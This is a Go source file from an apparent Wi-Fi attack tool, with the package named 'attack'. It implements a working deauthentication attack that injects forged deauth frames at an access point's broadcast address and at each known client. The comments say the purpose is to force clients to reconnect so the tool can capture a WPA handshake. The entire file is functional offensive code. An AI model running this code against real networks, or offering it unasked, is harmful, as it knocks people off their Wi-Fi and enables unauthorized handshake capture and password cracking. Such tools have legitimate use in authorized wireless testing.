package attack

import (
	"context"
	"fmt"
	"net"
	"time"

	"github.com/google/gopacket/layers"
	"github.com/wlfwifi/wlfwifi/pkg/wifi"
)

const deauthGap = 50 * time.Millisecond

// NativeDeauther injects deauthentication frames with gopacket when
// aireplay-ng is not installed.
type NativeDeauther struct{}

var _ Deauther = NativeDeauther{}

func (NativeDeauther) Deauth(ctx context.Context, iface, bssid, client string, count int) error {
	ap, err := net.ParseMAC(bssid)
	if err != nil {
		return fmt.Errorf("deauth: bssid: %w", err)
	}
	if client == "" {
		client = wifi.BroadcastMAC
	}
	sta, err := net.ParseMAC(client)
	if err != nil {
		return fmt.Errorf("deauth: client: %w", err)
	}

	inj, err := NewInjector(iface)
	if err != nil {
		return err
	}
	defer inj.Close()

	for i := 0; i < count; i++ {
		if err := inj.Kick(ap, sta, layers.Dot11ReasonClass2FromNonAuth); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(deauthGap):
		}
	}
	return nil
}

// deauthRound sends one burst at bssid: broadcast first, then each known
// client. Failures are logged; a missed round only delays the handshake.
func deauthRound(ctx context.Context, env *Env, bssid string) {
	d := env.Tools.Deauther
	if d == nil {
		return
	}
	count := env.Config.Attack.WPA.DeauthCount
	targets := []string{""}
	for _, c := range env.clientsOf(bssid) {
		targets = append(targets, c.MAC)
	}
	for _, client := range targets {
		if ctx.Err() != nil {
			return
		}
		if err := d.Deauth(ctx, env.Iface, bssid, client, count); err != nil {
			env.logf("[deauth] %s -> %q: %v", bssid, client, err)
		}
	}
}
